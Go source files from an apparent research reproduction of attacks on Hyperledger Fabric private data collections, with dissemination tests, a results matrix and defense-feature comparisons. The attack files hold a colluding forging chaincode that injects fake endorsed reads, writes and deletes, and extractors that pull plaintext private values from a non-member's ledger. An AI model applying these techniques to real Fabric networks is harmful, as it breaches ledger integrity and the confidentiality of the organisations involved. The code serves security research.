	n.Join(newFakePeer("peer0.org1", "org1"))
	n.Join(newFakePeer("peer0.org3", "org3")) // non-member

	// Requiring 1 member delivery with no other member registered
	// must fail — the endorsement is withheld.
	err := n.Disseminate("peer0.org1", collCfg(1, 3), "tx1", set())
	if !errors.Is(err, ErrDisseminationShort) {
		t.Fatalf("err = %v, want ErrDisseminationShort", err)
	}
	// Zero required succeeds trivially.
	if err := n.Disseminate("peer0.org1", collCfg(0, 3), "tx1", set()); err != nil {
		t.Fatal(err)
	}
}

func TestMaxPeerCountBoundsFanOut(t *testing.T) {
	n := NewNetwork()
	self := newFakePeer("peer0.org1", "org1")
	n.Join(self)
	others := []*fakePeer{
		newFakePeer("peer1.org1", "org1"),
		newFakePeer("peer0.org2", "org2"),
		newFakePeer("peer1.org2", "org2"),
	}
	for _, p := range others {
		n.Join(p)
	}
	if err := n.Disseminate("peer0.org1", collCfg(1, 1), "tx1", set()); err != nil {
		t.Fatal(err)
	}
	total := 0
	for _, p := range others {
		total += len(p.received)
	}
	if total != 1 {
		t.Fatalf("fan-out = %d, want 1 (MaxPeerCount)", total)
	}
}

// TestMaxPeerCountZeroPushesToNone: MaxPeerCount 0 means dissemination
// is disabled — the data stays at the endorsing peer (Fabric semantics),
// it does NOT mean "push to all".
func TestMaxPeerCountZeroPushesToNone(t *testing.T) {
	n := NewNetwork()
	p1 := newFakePeer("peer0.org1", "org1")
	p2 := newFakePeer("peer0.org2", "org2")
	n.Join(p1)
	n.Join(p2)

	if err := n.Disseminate("peer0.org1", collCfg(0, 0), "tx1", set()); err != nil {
		t.Fatalf("RequiredPeerCount 0 must succeed without pushing: %v", err)
	}
	if len(p2.received) != 0 {
		t.Fatal("MaxPeerCount 0 pushed private data")
	}

	// With a positive RequiredPeerCount the push can never satisfy it.
	err := n.Disseminate("peer0.org1", collCfg(1, 0), "tx2", set())
	if !errors.Is(err, ErrDisseminationShort) {
		t.Fatalf("err = %v, want ErrDisseminationShort", err)
	}
	if len(p2.received) != 0 {
		t.Fatal("short dissemination still pushed data")
	}
}

// TestIsolatedEndorserCannotDisseminate: Isolate is documented as "no
// deliveries in, no serving out, no pulls" — an isolated endorsing peer
// must not push private data out either.
func TestIsolatedEndorserCannotDisseminate(t *testing.T) {
	n := NewNetwork()
	p1 := newFakePeer("peer0.org1", "org1")
	p2 := newFakePeer("peer0.org2", "org2")
	n.Join(p1)
	n.Join(p2)
	n.Isolate("peer0.org1", true)

	err := n.Disseminate("peer0.org1", collCfg(1, 3), "tx1", set())
	if !errors.Is(err, ErrDisseminationShort) {
		t.Fatalf("err = %v, want ErrDisseminationShort", err)
	}
	if len(p2.received) != 0 {
		t.Fatal("isolated peer pushed private data out")
	}

	// RequiredPeerCount 0: no error, but still nothing leaves the peer.
	if err := n.Disseminate("peer0.org1", collCfg(0, 3), "tx2", set()); err != nil {
		t.Fatal(err)
	}
	if len(p2.received) != 0 {
		t.Fatal("isolated peer pushed private data out with required 0")
	}

	// Healing restores dissemination.
	n.Isolate("peer0.org1", false)
	if err := n.Disseminate("peer0.org1", collCfg(1, 3), "tx3", set()); err != nil {
		t.Fatal(err)
	}
	if len(p2.received) != 1 {
		t.Fatal("healed peer did not disseminate")
	}
}

// TestDeterministicFanOutSelection: when MaxPeerCount truncates the
// target list, the selection is by sorted peer name — identical on every
// run, not Go map iteration order.
func TestDeterministicFanOutSelection(t *testing.T) {
	for run := 0; run < 20; run++ {
		n := NewNetwork()
		n.Join(newFakePeer("peer0.org1", "org1"))
		targets := []*fakePeer{
			newFakePeer("peer0.org2", "org2"),
			newFakePeer("peer1.org1", "org1"),
			newFakePeer("peer1.org2", "org2"),
			newFakePeer("peer2.org2", "org2"),
		}
		// Join in varying order; selection must not depend on it.
		for i := range targets {
			n.Join(targets[(i+run)%len(targets)])
		}
		if err := n.Disseminate("peer0.org1", collCfg(1, 2), "tx1", set()); err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, p := range targets {
			if len(p.received) > 0 {
				got = append(got, p.name)
			}
		}
		want := []string{"peer0.org2", "peer1.org1"}
		if len(got) != 2 || got[0] != want[0] || got[1] != want[1] {
			t.Fatalf("run %d: receivers = %v, want %v", run, got, want)
		}
	}
}

func TestDropDeliveriesAndReconcile(t *testing.T) {
	n := NewNetwork()
	p1 := newFakePeer("peer0.org1", "org1")
	p2 := newFakePeer("peer0.org2", "org2")
	n.Join(p1)
	n.Join(p2)

	n.DropDeliveries("peer0.org2", true)
	err := n.Disseminate("peer0.org1", collCfg(1, 3), "tx1", set())
	if !errors.Is(err, ErrDisseminationShort) {
		t.Fatalf("drop not effective: %v", err)
	}
	if len(p2.received) != 0 {
		t.Fatal("dropped peer received data")
	}

	// Reconciliation pulls from a member that has the data.
	p1.serve["tx1/pdc1"] = set()
	got := n.Reconcile("peer0.org2", collCfg(0, 3), "tx1")
	if got == nil || got.Collection != "pdc1" {
		t.Fatalf("reconcile = %+v", got)
	}
	// No member has it: nil.
	if n.Reconcile("peer0.org2", collCfg(0, 3), "tx-unknown") != nil {
		t.Fatal("phantom reconciliation")
	}

	// Un-drop restores delivery.
	n.DropDeliveries("peer0.org2", false)
	if err := n.Disseminate("peer0.org1", collCfg(1, 3), "tx2", set()); err != nil {
		t.Fatal(err)
	}
}

func TestPeersListing(t *testing.T) {
	n := NewNetwork()
	n.Join(newFakePeer("a", "org1"))
	n.Join(newFakePeer("b", "org2"))
	if got := n.Peers(); len(got) != 2 {
		t.Fatalf("peers = %v", got)
	}
}

// TestFanOutBoundQuick: dissemination never exceeds MaxPeerCount and
// never reaches non-members, for arbitrary member populations.
func TestFanOutBoundQuick(t *testing.T) {
	f := func(memberPeers, nonMemberPeers, maxPush uint8) bool {
		nm := int(memberPeers%6) + 1
		no := int(nonMemberPeers % 6)
		mp := int(maxPush%8) + 1

		n := NewNetwork()
		self := newFakePeer("self", "org1")
		n.Join(self)
		var members, outsiders []*fakePeer
		for i := 0; i < nm; i++ {
			p := newFakePeer(fmt.Sprintf("m%d", i), "org2")
			members = append(members, p)
			n.Join(p)
		}
		for i := 0; i < no; i++ {
			p := newFakePeer(fmt.Sprintf("o%d", i), "org9")
			outsiders = append(outsiders, p)
			n.Join(p)
		}
		cfg := &pvtdata.CollectionConfig{
			Name:         "pdc1",
			MemberPolicy: "OR(org1.member, org2.member)",
			MaxPeerCount: mp,
		}
		if err := n.Disseminate("self", cfg, "tx", set()); err != nil {
			return false
		}
		delivered := 0
		for _, p := range members {
			delivered += len(p.received)
		}
		for _, p := range outsiders {
			if len(p.received) != 0 {
				return false
			}
		}
		want := nm
		if mp < want {
			want = mp
		}
		return delivered == want && len(self.received) == 0
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 60}); err != nil {
		t.Error(err)
	}
}
