package attacks

import (
	"fmt"
	"strings"

	"repro/internal/core"
)

// CellResult is one cell of Table II.
type CellResult string

// Table II cell values: the attack works (√), fails (×), or the
// combination is not applicable (N/A).
const (
	CellWorks CellResult = "√"
	CellFails CellResult = "×"
	CellNA    CellResult = "N/A"
)

// AttackKind enumerates the attack rows of Table II.
type AttackKind string

// The six attack rows of Table II.
const (
	AttackReadOnly  AttackKind = "Read-Only"
	AttackWriteOnly AttackKind = "Write-Only"
	AttackReadWrite AttackKind = "Read-Write"
	AttackDelete    AttackKind = "Delete-Related"
	AttackLeakRead  AttackKind = "PDC-Read"
	AttackLeakWrite AttackKind = "PDC-Write"
)

// InjectionAttacks are the fake-PDC-results-injection rows.
var InjectionAttacks = []AttackKind{AttackReadOnly, AttackWriteOnly, AttackReadWrite, AttackDelete}

// LeakageAttacks are the PDC-leakage rows.
var LeakageAttacks = []AttackKind{AttackLeakRead, AttackLeakWrite}

// ConfigKind enumerates the configuration columns of Table II.
type ConfigKind string

// The six configuration columns of Table II.
const (
	ConfigMajority     ConfigKind = "Default Policy: MAJORITY"
	Config2OutOf5      ConfigKind = "Default Policy: 2OutOf5"
	ConfigCollectionEP ConfigKind = "Collection-level Policy: AND(org1, org2)"
	ConfigFeature1     ConfigKind = "New Feature 1: Collection-level Policy Check for PDC Reads"
	ConfigOriginal     ConfigKind = "Original Fabric Framework"
	ConfigFeature2     ConfigKind = "New Feature 2: Cryptographic Solution"
)

// InjectionConfigs are the columns applicable to injection attacks.
var InjectionConfigs = []ConfigKind{ConfigMajority, Config2OutOf5, ConfigCollectionEP, ConfigFeature1}

// LeakageConfigs are the columns applicable to leakage attacks.
var LeakageConfigs = []ConfigKind{ConfigOriginal, ConfigFeature2}

// scenarioFor builds the Scenario for one configuration column and attack
// row, mirroring the experimental setups of §V-A and §V-B.
func scenarioFor(cfg ConfigKind, attack AttackKind) (Scenario, bool) {
	leakage := attack == AttackLeakRead || attack == AttackLeakWrite
	switch cfg {
	case ConfigMajority:
		if leakage {
			return Scenario{}, false
		}
		return Scenario{Name: string(cfg)}, true
	case Config2OutOf5:
		if leakage {
			return Scenario{}, false
		}
		// §V-A5: five orgs, chaincode-level 2OutOf; the malicious
		// orgs are both PDC non-members.
		return Scenario{
			Name:            string(cfg),
			Orgs:            []string{"org1", "org2", "org3", "org4", "org5"},
			ChaincodePolicy: "OutOf(2, org1.peer, org2.peer, org3.peer, org4.peer, org5.peer)",
			Malicious:       []string{"org3", "org4"},
		}, true
	case ConfigCollectionEP:
		if leakage {
			return Scenario{}, false
		}
		// §V-A6: collection-level AND(org1, org2), no new features.
		return Scenario{
			Name:         string(cfg),
			CollectionEP: "AND(org1.peer, org2.peer)",
		}, true
	case ConfigFeature1:
		if leakage {
			return Scenario{}, false
		}
		// §IV-C1 evaluated with the collection policy defined.
		return Scenario{
			Name:         string(cfg),
			CollectionEP: "AND(org1.peer, org2.peer)",
			Security:     core.Feature1Only(),
		}, true
	case ConfigOriginal:
		if !leakage {
			return Scenario{}, false
		}
		return Scenario{
			Name:           string(cfg),
			DisableForgers: true,
			LeakOnWrite:    attack == AttackLeakWrite,
		}, true
	case ConfigFeature2:
		if !leakage {
			return Scenario{}, false
		}
		return Scenario{
			Name:           string(cfg),
			DisableForgers: true,
			LeakOnWrite:    attack == AttackLeakWrite,
			Security:       core.Feature2Only(),
		}, true
	default:
		return Scenario{}, false
	}
}

// runAttack dispatches an attack row against a built environment.
func runAttack(e *Env, attack AttackKind) Outcome {
	switch attack {
	case AttackReadOnly:
		return FakeReadInjection(e)
	case AttackWriteOnly:
		return FakeWriteInjection(e)
	case AttackReadWrite:
		return FakeReadWriteInjection(e)
	case AttackDelete:
		return PDCDeleteAttack(e)
	case AttackLeakRead:
		return PDCReadLeakage(e)
	case AttackLeakWrite:
		return PDCWriteLeakage(e, "13")
	default:
		return Outcome{Detail: fmt.Sprintf("unknown attack %q", attack)}
	}
}

// Cell runs one (attack, configuration) cell of Table II on a fresh
// network and returns the cell value plus the full outcome.
func Cell(attack AttackKind, cfg ConfigKind) (CellResult, Outcome, error) {
	scenario, applicable := scenarioFor(cfg, attack)
	if !applicable {
		return CellNA, Outcome{}, nil
	}
	env, err := Setup(scenario)
	if err != nil {
		return "", Outcome{}, fmt.Errorf("attacks: cell (%s, %s): %w", attack, cfg, err)
	}
	outcome := runAttack(env, attack)
	if outcome.Succeeded {
		return CellWorks, outcome, nil
	}
	return CellFails, outcome, nil
}

// Matrix is the complete Table II: Matrix[attack][config] = cell.
type Matrix map[AttackKind]map[ConfigKind]CellResult

// AllConfigs lists every column in Table II order.
var AllConfigs = []ConfigKind{
	ConfigMajority, Config2OutOf5, ConfigCollectionEP, ConfigFeature1,
	ConfigOriginal, ConfigFeature2,
}

// AllAttacks lists every row in Table II order.
var AllAttacks = []AttackKind{
	AttackReadOnly, AttackWriteOnly, AttackReadWrite, AttackDelete,
	AttackLeakRead, AttackLeakWrite,
}

// RunMatrix regenerates Table II by running every applicable cell on a
// fresh network.
func RunMatrix() (Matrix, error) {
	m := make(Matrix)
	for _, attack := range AllAttacks {
		m[attack] = make(map[ConfigKind]CellResult)
		for _, cfg := range AllConfigs {
			cell, _, err := Cell(attack, cfg)
			if err != nil {
				return nil, err
			}
			m[attack][cfg] = cell
		}
	}
	return m, nil
}

// ExpectedMatrix is Table II as published, used to assert the
// reproduction matches the paper.
func ExpectedMatrix() Matrix {
	w, x, na := CellWorks, CellFails, CellNA
	return Matrix{
		AttackReadOnly:  {ConfigMajority: w, Config2OutOf5: w, ConfigCollectionEP: w, ConfigFeature1: x, ConfigOriginal: na, ConfigFeature2: na},
		AttackWriteOnly: {ConfigMajority: w, Config2OutOf5: w, ConfigCollectionEP: x, ConfigFeature1: x, ConfigOriginal: na, ConfigFeature2: na},
		AttackReadWrite: {ConfigMajority: w, Config2OutOf5: w, ConfigCollectionEP: x, ConfigFeature1: x, ConfigOriginal: na, ConfigFeature2: na},
		AttackDelete:    {ConfigMajority: w, Config2OutOf5: w, ConfigCollectionEP: x, ConfigFeature1: x, ConfigOriginal: na, ConfigFeature2: na},
		AttackLeakRead:  {ConfigMajority: na, Config2OutOf5: na, ConfigCollectionEP: na, ConfigFeature1: na, ConfigOriginal: w, ConfigFeature2: x},
		AttackLeakWrite: {ConfigMajority: na, Config2OutOf5: na, ConfigCollectionEP: na, ConfigFeature1: na, ConfigOriginal: w, ConfigFeature2: x},
	}
}

// Render prints the matrix as an aligned text table.
func (m Matrix) Render() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-16s", "Attack")
	short := map[ConfigKind]string{
		ConfigMajority:     "MAJORITY",
		Config2OutOf5:      "2OutOf5",
		ConfigCollectionEP: "Coll-EP",
		ConfigFeature1:     "Feature1",
		ConfigOriginal:     "Original",
		ConfigFeature2:     "Feature2",
	}
	for _, cfg := range AllConfigs {
		fmt.Fprintf(&b, "%-10s", short[cfg])
	}
	b.WriteString("\n")
	for _, attack := range AllAttacks {
		fmt.Fprintf(&b, "%-16s", attack)
		for _, cfg := range AllConfigs {
			fmt.Fprintf(&b, "%-10s", m[attack][cfg])
		}
		b.WriteString("\n")
	}
	return b.String()
}

// Equal reports whether two matrices agree on every cell.
func (m Matrix) Equal(other Matrix) bool {
	for _, attack := range AllAttacks {
		for _, cfg := range AllConfigs {
			if m[attack][cfg] != other[attack][cfg] {
				return false
			}
		}
	}
	return true
}

// Diff lists the cells where two matrices disagree.
func (m Matrix) Diff(other Matrix) []string {
	var out []string
	for _, attack := range AllAttacks {
		for _, cfg := range AllConfigs {
			if m[attack][cfg] != other[attack][cfg] {
				out = append(out, fmt.Sprintf("(%s, %s): got %s want %s",
					attack, cfg, m[attack][cfg], other[attack][cfg]))
			}
		}
	}
	return out
}
