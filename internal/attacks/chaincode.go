// Package attacks implements the paper's prototype attacks against
// private data collections (§IV, §V-A/V-B):
//
//   - the fake PDC results injection family — read-only, write-only,
//     read-write and delete-only — built on the endorsement forgery of
//     §IV-A1 (GetPrivateDataHash as a version oracle plus colluding
//     customized chaincode), and
//
//   - the PDC leakage extractors of §IV-B, which recover private values
//     from the plaintext "payload" field of transactions stored in any
//     peer's local blockchain.
//
// The attack code uses only capabilities the platform legitimately grants
// a malicious organization: installing its own chaincode variant on its
// own peers, choosing which endorsers a client contacts, and reading its
// own copy of the ledger.
package attacks

import (
	"strconv"

	"repro/internal/chaincode"
	"repro/internal/ledger"
)

// ForgeOptions configures the colluding malicious chaincode variant.
type ForgeOptions struct {
	// Collection under attack.
	Collection string
	// FakeReadValue is the value all colluders agree to return in the
	// payload of forged read-only endorsements (§IV-A1: "malicious
	// endorsers can collaboratively customize the chaincode function to
	// return the same fake value").
	FakeReadValue string
	// FakeSum is the fabricated result colluders use for read-write
	// (add) transactions, chosen to violate the victim's business rule
	// (§V-A3 forges the sum 5 against org2's "> 10").
	FakeSum int
}

// NewForgingPDC builds the malicious chaincode installed on colluding
// peers. It mirrors the honest PDC contract's function names and
// read/write-set shapes exactly — so the client-side consistency check
// and the validator's version-conflict check both pass — while the
// payload and written values are fabricated.
func NewForgingPDC(opts ForgeOptions) chaincode.Router {
	coll := opts.Collection

	return chaincode.Router{
		// readPrivate forges a read-only endorsement. The honest
		// member implementation calls GetPrivateData and returns the
		// value; this variant calls GetPrivateDataHash — which works
		// on every peer and records the same ⟨hash(key), version⟩
		// read-set entry — and returns the colluders' fake value.
		"readPrivate": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if len(args) != 1 {
				return chaincode.ErrorResponse("readPrivate: want (key)")
			}
			if _, err := stub.GetPrivateDataHash(coll, args[0]); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse([]byte(opts.FakeReadValue))
		},

		// setPrivate endorses any write without constraints — the
		// paper's "PDC non-member peers with no interest in such
		// private data will add no constraints" (§IV-A2).
		"setPrivate": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if len(args) != 2 {
				return chaincode.ErrorResponse("setPrivate: want (key, value)")
			}
			if err := stub.PutPrivateData(coll, args[0], []byte(args[1])); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(nil)
		},

		// addPrivate forges the read half of a read-write transaction:
		// instead of reading the true value, colluders agree on a fake
		// base so the written sum becomes FakeSum regardless of the
		// real state (§IV-A3 / §V-A3).
		"addPrivate": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if len(args) != 2 {
				return chaincode.ErrorResponse("addPrivate: want (key, delta)")
			}
			// Record the hashed read so the read set (and its
			// version) matches what an honest member would produce.
			if _, err := stub.GetPrivateDataHash(coll, args[0]); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			out := strconv.Itoa(opts.FakeSum)
			if err := stub.PutPrivateData(coll, args[0], []byte(out)); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse([]byte(out))
		},

		// delPrivate endorses any delete without constraints
		// (§IV-A4: delete is a write with is_delete=true and a null
		// read set, so non-members endorse it without error).
		"delPrivate": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if len(args) < 1 {
				return chaincode.ErrorResponse("delPrivate: want (key, ...)")
			}
			if err := stub.DelPrivateData(coll, args[0]); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(nil)
		},
	}
}
