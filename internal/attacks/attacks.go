package attacks

import (
	"fmt"
	"strconv"

	"repro/internal/ledger"
)

// Outcome reports whether an attack achieved its goal, with the evidence.
type Outcome struct {
	// Succeeded is true when the attack's integrity/confidentiality
	// goal was reached.
	Succeeded bool
	// TxID of the malicious transaction, when one was assembled.
	TxID string
	// Code is the validation outcome of the malicious transaction.
	Code ledger.ValidationCode
	// Detail explains the evidence for success or failure.
	Detail string
}

// FakeReadInjection runs the §V-A1 experiment: the malicious client of
// org1 sends a PDC read-only proposal to the colluding endorsers (who run
// the forging chaincode), assembles the transaction and submits it. The
// attack succeeds when the transaction is recorded VALID in the
// blockchain while carrying the fabricated payload — breaching blockchain
// integrity.
func FakeReadInjection(e *Env) Outcome {
	res, err := e.submit(e.Scenario.Malicious[0], e.maliciousPeers(), "readPrivate", []string{TargetKey})
	if err != nil {
		return Outcome{Detail: fmt.Sprintf("endorsement/ordering failed: %v", err)}
	}
	if res.Code != ledger.Valid {
		return Outcome{TxID: res.TxID, Code: res.Code,
			Detail: fmt.Sprintf("transaction invalidated: %v", res.Code)}
	}

	// Evidence: the victim's own blockchain stores the fabricated value
	// as a valid read result.
	tx, code, err := e.Net.Peer("org2").Ledger().Transaction(res.TxID)
	if err != nil || code != ledger.Valid {
		return Outcome{TxID: res.TxID, Code: code, Detail: "tx missing or invalid at victim"}
	}
	prp, err := tx.ResponsePayloadParsed()
	if err != nil {
		return Outcome{TxID: res.TxID, Code: code, Detail: "unparsable payload"}
	}
	if string(prp.Response.Payload) != FakeValue {
		return Outcome{TxID: res.TxID, Code: code,
			Detail: fmt.Sprintf("payload %q is not the fake value", prp.Response.Payload)}
	}
	return Outcome{
		Succeeded: true, TxID: res.TxID, Code: code,
		Detail: fmt.Sprintf("valid read tx records fake value %q (true value %q)", FakeValue, InitialValue),
	}
}

// FakeWriteInjection runs the §V-A2 experiment: the malicious client
// writes k1 = 5 with endorsements from the colluders only. org1's rule
// ("< 15") tolerates 5; org2's rule ("> 10") would reject it but org2 is
// never asked. The attack succeeds when the victim org2's private store
// ends up holding 5 — breaching world-state integrity.
func FakeWriteInjection(e *Env) Outcome {
	return fakeWrite(e, "setPrivate", []string{TargetKey, strconv.Itoa(FakeSum)}, strconv.Itoa(FakeSum))
}

// FakeReadWriteInjection runs the §V-A3 experiment: the colluders forge
// the read half of an add operation so the written sum becomes FakeSum,
// then inject it like a write.
func FakeReadWriteInjection(e *Env) Outcome {
	return fakeWrite(e, "addPrivate", []string{TargetKey, "1"}, strconv.Itoa(FakeSum))
}

func fakeWrite(e *Env, function string, args []string, wantValue string) Outcome {
	res, err := e.submit(e.Scenario.Malicious[0], e.maliciousPeers(), function, args)
	if err != nil {
		return Outcome{Detail: fmt.Sprintf("endorsement/ordering failed: %v", err)}
	}
	if res.Code != ledger.Valid {
		return Outcome{TxID: res.TxID, Code: res.Code,
			Detail: fmt.Sprintf("transaction invalidated: %v", res.Code)}
	}
	got, ok := e.VictimValue()
	if !ok || got != wantValue {
		return Outcome{TxID: res.TxID, Code: res.Code,
			Detail: fmt.Sprintf("victim value %q (present=%v), want %q", got, ok, wantValue)}
	}
	return Outcome{
		Succeeded: true, TxID: res.TxID, Code: res.Code,
		Detail: fmt.Sprintf("victim org2 committed %s=%q, violating its \"> 10\" rule", TargetKey, got),
	}
}

// PDCDeleteAttack runs the §V-A4 experiment: the malicious client deletes
// k1 with colluding endorsements; org2's constraint would forbid it. The
// attack succeeds when the victim's private entry disappears.
func PDCDeleteAttack(e *Env) Outcome {
	res, err := e.submit(e.Scenario.Malicious[0], e.maliciousPeers(), "delPrivate", []string{TargetKey, strconv.Itoa(FakeSum)})
	if err != nil {
		return Outcome{Detail: fmt.Sprintf("endorsement/ordering failed: %v", err)}
	}
	if res.Code != ledger.Valid {
		return Outcome{TxID: res.TxID, Code: res.Code,
			Detail: fmt.Sprintf("transaction invalidated: %v", res.Code)}
	}
	if got, ok := e.VictimValue(); ok {
		return Outcome{TxID: res.TxID, Code: res.Code,
			Detail: fmt.Sprintf("victim still holds %s=%q", TargetKey, got)}
	}
	return Outcome{
		Succeeded: true, TxID: res.TxID, Code: res.Code,
		Detail: fmt.Sprintf("%s deleted at victim org2 against its business rule", TargetKey),
	}
}

// Leaked is one private value recovered from a peer's local blockchain.
type Leaked struct {
	TxID     string
	BlockNum uint64
	// Payload is the plaintext recovered from the transaction's
	// proposal-response "payload" field.
	Payload string
	// Function is the chaincode function that produced it.
	Function string
}

// ExtractPDCPayloads implements the §IV-B leakage extractor: it walks the
// given peer's local blockchain — no network access, no special
// privileges — and returns the plaintext payloads of every valid
// transaction that touched a private data collection. Run on a PDC
// non-member peer, any returned value that equals a private value is a
// confidentiality breach.
func ExtractPDCPayloads(p LedgerHolder) []Leaked {
	var out []Leaked
	p.Ledger().Scan(func(blockNum uint64, tx *ledger.Transaction, code ledger.ValidationCode) bool {
		if code != ledger.Valid {
			return true
		}
		prp, err := tx.ResponsePayloadParsed()
		if err != nil || len(prp.Response.Payload) == 0 {
			return true
		}
		set, err := prp.RWSet()
		if err != nil || len(set.CollSets) == 0 {
			return true
		}
		out = append(out, Leaked{
			TxID:     tx.TxID,
			BlockNum: blockNum,
			Payload:  string(prp.Response.Payload),
			Function: tx.Proposal.Function,
		})
		return true
	})
	return out
}

// LedgerHolder is anything exposing a blockchain copy (a peer).
type LedgerHolder interface {
	Ledger() *ledger.BlockStore
}

// LeakedEvent is one chaincode event recovered from a peer's blockchain.
// Events are an exposure channel of the same class as Use Case 3: they
// travel in plaintext inside transactions, so a chaincode that emits a
// private value through an event leaks it to every peer.
type LeakedEvent struct {
	TxID     string
	BlockNum uint64
	Name     string
	Payload  string
}

// ExtractPDCEvents walks a peer's local blockchain and returns the
// chaincode events of every valid transaction that touched a private
// data collection — the event-channel analogue of ExtractPDCPayloads.
func ExtractPDCEvents(p LedgerHolder) []LeakedEvent {
	var out []LeakedEvent
	p.Ledger().Scan(func(blockNum uint64, tx *ledger.Transaction, code ledger.ValidationCode) bool {
		if code != ledger.Valid {
			return true
		}
		prp, err := tx.ResponsePayloadParsed()
		if err != nil || prp.Event == nil {
			return true
		}
		set, err := prp.RWSet()
		if err != nil || len(set.CollSets) == 0 {
			return true
		}
		out = append(out, LeakedEvent{
			TxID:     tx.TxID,
			BlockNum: blockNum,
			Name:     prp.Event.Name,
			Payload:  string(prp.Event.Payload),
		})
		return true
	})
	return out
}

// PDCReadLeakage runs the §V-B1 experiment: an honest client of a member
// org submits an audited PDC read (the Listing 1 pattern); the non-member
// org3 then recovers the private value from its own blockchain. Succeeds
// when the recovered plaintext equals the private value.
func PDCReadLeakage(e *Env) Outcome {
	res, err := e.submit("org2", e.memberPeers(), "readPrivate", []string{TargetKey})
	if err != nil {
		return Outcome{Detail: fmt.Sprintf("honest read failed: %v", err)}
	}
	return checkLeak(e, res.TxID, InitialValue)
}

// PDCWriteLeakage runs the §V-B2 experiment: the members use a sloppily
// written chaincode whose setPrivate returns the written value (the
// Listing 2 pattern, enabled in the scenario via LeakOnWrite), and the
// non-member recovers the value from its blockchain.
func PDCWriteLeakage(e *Env, newValue string) Outcome {
	res, err := e.submit("org2", e.memberPeers(), "setPrivate", []string{TargetKey, newValue})
	if err != nil {
		return Outcome{Detail: fmt.Sprintf("honest write failed: %v", err)}
	}
	return checkLeak(e, res.TxID, newValue)
}

func checkLeak(e *Env, txID, secret string) Outcome {
	for _, leak := range ExtractPDCPayloads(e.Net.Peer("org3")) {
		if leak.TxID == txID && leak.Payload == secret {
			return Outcome{
				Succeeded: true, TxID: txID, Code: ledger.Valid,
				Detail: fmt.Sprintf("non-member org3 recovered %q from block %d", leak.Payload, leak.BlockNum),
			}
		}
	}
	return Outcome{TxID: txID, Code: ledger.Valid,
		Detail: "no plaintext private value recoverable from non-member blockchain"}
}
