package attacks

import (
	"strings"
	"testing"
)

func TestExpectedMatrixShape(t *testing.T) {
	m := ExpectedMatrix()
	for _, attack := range AllAttacks {
		for _, cfg := range AllConfigs {
			if m[attack][cfg] == "" {
				t.Errorf("cell (%s, %s) empty", attack, cfg)
			}
		}
	}
	// Injection rows are N/A in leakage columns and vice versa.
	for _, attack := range InjectionAttacks {
		for _, cfg := range LeakageConfigs {
			if m[attack][cfg] != CellNA {
				t.Errorf("injection cell (%s, %s) = %s", attack, cfg, m[attack][cfg])
			}
		}
	}
	for _, attack := range LeakageAttacks {
		for _, cfg := range InjectionConfigs {
			if m[attack][cfg] != CellNA {
				t.Errorf("leakage cell (%s, %s) = %s", attack, cfg, m[attack][cfg])
			}
		}
	}
}

func TestMatrixRenderAndDiff(t *testing.T) {
	m := ExpectedMatrix()
	out := m.Render()
	for _, want := range []string{"Read-Only", "PDC-Write", "MAJORITY", "Feature2"} {
		if !strings.Contains(out, want) {
			t.Errorf("render lacks %q", want)
		}
	}
	if !m.Equal(ExpectedMatrix()) {
		t.Error("matrix not equal to itself")
	}
	mutated := ExpectedMatrix()
	mutated[AttackReadOnly][ConfigMajority] = CellFails
	if m.Equal(mutated) {
		t.Error("mutated matrix equal")
	}
	if diffs := mutated.Diff(m); len(diffs) != 1 || !strings.Contains(diffs[0], "Read-Only") {
		t.Errorf("diff = %v", diffs)
	}
}

func TestScenarioForNA(t *testing.T) {
	if _, ok := scenarioFor(ConfigMajority, AttackLeakRead); ok {
		t.Error("leakage under injection config should be N/A")
	}
	if _, ok := scenarioFor(ConfigOriginal, AttackReadOnly); ok {
		t.Error("injection under leakage config should be N/A")
	}
	if _, ok := scenarioFor(ConfigKind("bogus"), AttackReadOnly); ok {
		t.Error("unknown config accepted")
	}
	cell, _, err := Cell(AttackLeakRead, ConfigMajority)
	if err != nil || cell != CellNA {
		t.Errorf("Cell N/A = %v, %v", cell, err)
	}
}
