package attacks

import (
	"context"
	"fmt"

	"repro/internal/chaincode"
	"repro/internal/contracts"
	"repro/internal/core"
	"repro/internal/gateway"
	"repro/internal/ledger"
	"repro/internal/network"
	"repro/internal/peer"
	"repro/internal/pvtdata"
	"repro/internal/service"
)

// Chaincode and collection names shared by all attack scenarios.
const (
	ChaincodeName  = "asset"
	CollectionName = "pdc1"
	// TargetKey is the private key under attack, the paper's k1.
	TargetKey = "k1"
	// InitialValue is the honest private value ⟨k1, P1⟩ = 12, chosen to
	// satisfy both org1's "< 15" and org2's "> 10" constraints.
	InitialValue = "12"
	// FakeValue is the colluders' fabricated read payload.
	FakeValue = "999"
	// FakeSum is the fabricated read-write result, violating org2's
	// "> 10" rule as in §V-A3.
	FakeSum = 5
)

// Scenario describes one experimental configuration of §V-A: the
// organizations, the chaincode-level policy, the optional
// collection-level endorsement policy and the active defense features.
type Scenario struct {
	// Name labels the configuration in reports.
	Name string
	// Orgs lists the organizations; members of the PDC are always org1
	// and org2. Default: org1..org3.
	Orgs []string
	// DefaultEndorsement is the channel default (configtx) rule;
	// default "MAJORITY Endorsement".
	DefaultEndorsement string
	// ChaincodePolicy is the chaincode-level policy spec; empty uses
	// the channel default.
	ChaincodePolicy string
	// CollectionEP is the optional collection-level endorsement policy
	// (paper §V-A6 uses "AND(org1.peer, org2.peer)").
	CollectionEP string
	// Security selects the defense features under test.
	Security core.SecurityConfig
	// Malicious lists the colluding organizations that install the
	// forging chaincode; default org1 and org3 (unless DisableForgers).
	Malicious []string
	// DisableForgers leaves every peer on the honest contract; used by
	// the leakage experiments, which need no malicious node at all
	// (§IV-B: "with no need of peers or clients being malicious").
	DisableForgers bool
	// LeakOnWrite installs the sloppy Listing 2 write function (returns
	// the written value in the payload) on the honest peers.
	LeakOnWrite bool
}

func (s Scenario) withDefaults() Scenario {
